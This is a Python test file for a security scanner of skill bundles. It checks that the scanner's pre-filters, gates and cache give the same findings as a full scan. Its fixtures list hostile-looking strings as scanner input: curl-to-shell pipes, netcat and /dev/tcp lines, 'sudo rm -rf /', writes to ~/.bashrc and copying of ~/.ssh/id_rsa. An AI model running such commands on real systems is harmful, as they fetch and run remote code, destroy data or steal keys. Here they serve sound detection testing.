"""The shortcuts of the code scan must not change a single finding: the Python pre-filter, the
statements looked at after a parse, the literal gates of the line rules, and the per-content
cache."""

from __future__ import annotations

import ast
import random
import warnings

import pytest

from chimera_cards._bundles.bundle import bundle_from_files
from chimera_cards._scan.codescan import ScanCache, scan_bundle, scan_script
from chimera_cards._scan.linerules import (
    _GENERIC_RULES,
    _RULE_LITERALS,
    _SHELL_RULES,
    _anywhere,
    generic_comment,
    judge_match,
)
from chimera_cards._scan.pyscan import _parse_and_scan_python, _python_may_flag, scan_python

SKILL = (
    b"---\nname: s\ndescription: A skill used to test the code scan of its files.\n---\n\nBody.\n"
)

# Lines that do and do not give findings, in code, comments and strings, parsing or not.
FRAGMENTS = [
    "x = 1",
    "def f(a):\n    return [y for y in a if y]",
    "# subprocess.run(['ls']) in a comment",
    "HELP = 'call os.system or eval() yourself'",
    "import os",
    "import subprocess as sp",
    "from urllib.request import urlopen",
    "sp.run(['ls'])",
    "os.system('ls')",
    "eval(input())",
    "exec(compile('1', 'x', 'exec'))",
    "open('/etc/hosts', 'w').write('x')",
    "open('notes.txt').read()",
    "print(len('socket fetch curl '))",
    "value = system('x')",
    "K = '" + "ab12" * 60 + "'",
    "S = '\\x41\\x42' * 3",
    "ｅｖａｌ('1')",
    "def broken(:",
    "class C:\n    def m(self):\n        return self.home()",
    "data = fetch",
    "`ls`",
    "'''\nos.system('in a docstring')\n'''",
    "Path('~/.x').write_text('k')",
]
# Statement shapes the gated walk must still reach: several on a line, continuations, nested
# bodies, handlers, match cases, decorators, parentheses around the called name.
SHAPES = [
    "x = 1; os.system('a'); y = 2",
    "from subprocess import (\n    run as go,\n    Popen,\n)\ngo(['ls'])",
    "import socket \\\n    , subprocess",
    "try:\n    pass\nexcept open('/tmp/x', 'w'):\n    import ftplib\nelse:\n    eval('1')",
    "match x:\n    case [a] if eval(a):\n        import requests\n    case _:\n        pass",
    "@sp.run(['x'])\ndef g():\n    with open('/etc/x', 'a') as f:\n        pass",
    "import subprocess as sp\n@sp.run(['x'])\n@property\nclass C2:\n    pass",
    "class K:\n    def m(self):\n        import pty\n        return pty.spawn('sh')",
    "async def h():\n    for i in range(3):\n        await asyncio.create_subprocess_shell('x')",
    "def f(a=os.path.expanduser('~')):\n    return a",
    "(subprocess.run)(['ls'])",
    "os.system(eval(x)); f(eval(a))(os.system(b))",
    "1.real; 2 .bit_length(); sp .\\\n run(['y'])",
]


def programs(count: int, seed: int = 5, fragments: list[str] = FRAGMENTS):
    rng = random.Random(seed)
    for _ in range(count):
        yield "\n".join(rng.choice(fragments) for _ in range(rng.randint(1, 6))) + "\n"
    yield from fragments


def parses(src: str) -> bool:
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "1if x else 2"
            ast.parse(src)
    except SyntaxError:
        return False
    return True


def reference(src: str) -> list[dict]:
    """The scan without the pre-filter: the whole parse's for a script that parses; for one that
    does not, what the statements parsed in pieces give (``pystatements``: they may parse where
    the whole does not, and Python would not run that script)."""
    whole = parses(src)
    return [f.to_dict() for f in _parse_and_scan_python("s/x.py", src, pieces=not whole)]


@pytest.mark.slow
def test_python_prefilter_gives_the_findings_of_the_full_parse():
    skipped = 0
    for src in programs(3000):
        fast = [f.to_dict() for f in scan_python("s/x.py", src)]
        assert fast == reference(src), src
        skipped += not _python_may_flag(src)
    assert skipped > 100  # the filter does skip scripts (else this test proves nothing)


# Imports with and without findings, aliases that hide or reveal a sensitive call.
IMPORTS = [
    "import json",
    "import os.path as osp",
    "from pathlib import Path",
    "from os import *",
    "import os as system",
    "from subprocess import check_output as co",
    "import http.client",
    "from . import socket",
    "import multiprocessing.pool",
    "import multiprocessing",
    "import urllib.request as ur",
    "from os import path as run",
    "import a.b.c as x",
    "from importlib import import_module as im",
    "x = osp.join('a', 'b')",
    "co(['ls'])",
    "ur.urlopen(u)",
    "run.exists('x')",
    "system.getcwd()",
    "Path('x').read_text()",
    "json.dumps({})",
    "im('os')",
    "x()",
    "import pty",
    "print(1if x else 2)",
]


@pytest.mark.slow
def test_python_prefilter_skips_scripts_importing_nothing_flagged_with_the_same_findings():
    # A script may import modules no rule names and still skip the parse: no import finding
    # without a flagged module's name, no call finding without a sensitive name, alias or not.
    skipped_with_imports = flagged = 0
    for src in programs(3000, seed=31, fragments=IMPORTS + FRAGMENTS[:3]):
        fast = [f.to_dict() for f in scan_python("s/x.py", src)]
        full = reference(src)
        assert fast == full, src
        if not _python_may_flag(src):
            skipped_with_imports += "import" in src
        flagged += bool(full)
    assert skipped_with_imports > 100 and flagged > 100  # both sides of the filter are exercised


@pytest.mark.slow
def test_gated_walk_finds_what_a_walk_of_every_statement_finds():
    # After a parse only statements spanning a line with "import", or with a call to a
    # sensitive name or alias, are looked at; every statement is the plain reference.
    rng = random.Random(17)
    for src in programs(3000, seed=11, fragments=FRAGMENTS + SHAPES):
        for ending in ("\n", "\r\n", "\r"):
            text = src.replace("\n", ending)
            if rng.random() < 0.3:
                text = "    " + text  # does not parse: the line rules, the same both ways
            gated = [f.to_dict() for f in scan_python("s/x.py", text)]
            normal = text.replace("\r\n", "\n").replace("\r", "\n")
            if not parses(normal):
                # No tree to walk every statement of: the pieces that parse alone, if any.
                plain = reference(normal)
            else:
                found = _parse_and_scan_python("s/x.py", normal, gated=False)
                plain = [f.to_dict() for f in found]
            assert gated == plain, text


def test_a_script_with_cr_line_ends_is_scanned_as_python_reads_it():
    # Python ends a line at CR too; counting only LF put calls on the wrong lines and missed them.
    lf = "import subprocess\n\nx = 1\nsubprocess.run(['ls'])\n"
    expected = [(f.rule, f.line) for f in scan_python("x.py", lf)]
    assert ("code-exec", 4) in expected
    for ending in ("\r", "\r\n"):
        assert [(f.rule, f.line) for f in scan_python("x.py", lf.replace("\n", ending))] == (
            expected
        )


SHELLISH = [
    "curl -fsSL https://x.sh | sh",
    "wget -qO- u | bash",
    "nc -l 4444",
    "cat /dev/tcp/1.2.3.4/80",
    "bash -c 'echo'",
    "source <(curl x)",
    '; eval "$x"',
    "then exec foo",
    "sudo rm -rf /",
    "pnpm add left-pad",
    "pip3 install x",
    "go install y",
    "echo k >> ~/.bashrc",
    "2>/etc/x",
    "tee -a $HOME/x",
    "cp a ../b",
    "chmod 777 /usr/bin",
    "base64 -d <<< x",
    "xxd -r -p",
    "openssl enc -d",
    "fetch('https://x')",
    "new XMLHttpRequest()",
    "requests.post(u)",
    "Net::HTTP.get",
    "Invoke-WebRequest u",
    "child_process.execSync('x')",
    "spawnSync('x')",
    "`ls`",
    "Start-Process x",
    "eval(x)",
    "new  Function('a')",
    "iex $x",
    "atob(s)",
    "Buffer.from(s, 'base64')",
    "[Convert]::FromBase64String(s)",
]


@pytest.mark.slow
def test_every_match_of_a_line_rule_holds_one_of_its_literals():
    # The literal gate skips a rule's regex when the text holds none of its literals: exact only
    # if every match holds one. Every rule must match here, or this proves nothing about it.
    rng = random.Random(23)
    noise = [*SHELLISH, *FRAGMENTS, *SHAPES, " ", "\n", "|", ">", "(", "x", "/", "~", "-", "\t"]
    texts = [*SHELLISH, *(
        "".join(rng.choice(noise) for _ in range(rng.randint(1, 12))) for _ in range(3000)
    )]  # fmt: skip
    matched = set()
    for regex, *_ in (*_SHELL_RULES, *_GENERIC_RULES):
        literals = _RULE_LITERALS[regex]
        for text in texts:
            for m in _anywhere(regex).finditer(text):
                assert any(literal in m.group(0) for literal in literals), (regex, m.group(0))
                matched.add(regex)
    assert matched == set(_RULE_LITERALS)


@pytest.mark.slow
def test_line_rules_with_gates_find_what_every_regex_finds():
    rng = random.Random(29)
    for i in range(2000):
        text = "\n".join(rng.choice([*SHELLISH, *FRAGMENTS]) for _ in range(rng.randint(1, 5)))
        for path, language in (("a.sh", "shell"), ("a.js", "javascript"), ("a.rb", "ruby")):
            fast = [f.to_dict() for f in scan_script(path, text, language)]
            lines = text.splitlines()
            rules = _SHELL_RULES if language == "shell" else _GENERIC_RULES
            for f in fast:
                assert f["line"] is None or 1 <= f["line"] <= len(lines)
            # Plain reference: every regex on every line, no gate.
            plain = []
            for number, line in enumerate(lines, 1):
                stripped = line.lstrip()
                if (
                    language == "shell"
                    and stripped.startswith("#")
                    and not stripped.startswith("#!")
                ) or (language != "shell" and generic_comment(path, line)):
                    continue
                for regex, rule, severity, describe in rules:
                    for m in regex.finditer(line):
                        judged = judge_match(m, rule, severity, describe, shell=language == "shell")
                        if judged is not None:
                            plain.append((judged[0], number, judged[2]))
            assert sorted(
                (f["rule"], f["line"], f["message"])
                for f in fast
                if f["rule"] != ("code-obfuscation") or "blob" not in f["message"]
            ) == sorted(plain), (i, text)


def test_fullwidth_eval_is_a_call_to_eval():
    # Python reads identifiers NFKC-normalised: this is eval.
    assert [f.rule for f in scan_python("x.py", "ｅｖａｌ('1')\n")] == ["code-eval"]


def test_cached_scan_of_repeated_files_equals_a_fresh_scan():
    rng = random.Random(9)
    bundles = []
    for i in range(20):
        files = {"SKILL.md": (SKILL, False)}
        for name in ("scripts/a.py", "scripts/b.py", "tools/a.py", "notes.md", "notes.txt"):
            src = rng.choice([*programs(40, seed=i), "<!-- hidden -->\n"])
            files[name] = (src.encode(), rng.random() < 0.3)
        files["LICENSE"] = (b"<!-- same licence everywhere -->\n", False)
        bundles.append(bundle_from_files(files))
    cache = ScanCache()
    for b in bundles:
        cached = [f.to_dict() for f in scan_bundle(b, cache=cache).findings]
        fresh = [f.to_dict() for f in scan_bundle(b).findings]
        assert cached == fresh
    assert cache.hits >= len(bundles) - 1  # the licence at least was scanned once


def test_credential_paths_in_a_long_text_are_found_as_a_search_of_the_whole_text_finds_them():
    # Long texts are searched only on the lines that hold a literal: the same first match.
    from chimera_cards._scan.sensitive import (
        _STORE_COMMAND_RE,
        CREDENTIAL_LITERALS,
        CREDENTIAL_PATH_RE,
        credential_in,
    )

    pieces = ["See the docs.", "knowledge edge", "cp ~/.ssh/id_rsa /tmp/x", "~/.ssh/id_rsa.pub",
              "Login Data", "login data", "security find-generic-password", "security\nexport",
              "x.env", "a .env file", "\u0130d_rsa", "~/.\u017fsh/config", "Google/Chrome/",
              "keys", "|", "   ", "é"]  # fmt: skip
    rng = random.Random(6)
    found = 0
    for _ in range(1500):
        text = "padding " * 32 + "\n".join(rng.choice(pieces) for _ in range(rng.randint(1, 60)))
        match = CREDENTIAL_PATH_RE.search(text) or _STORE_COMMAND_RE.search(text)
        gate = any(literal in text.lower() for literal in CREDENTIAL_LITERALS)
        expected = match.group(0) if match and gate else None
        found += expected is not None
        assert credential_in(text) == expected, text
    assert found > 500
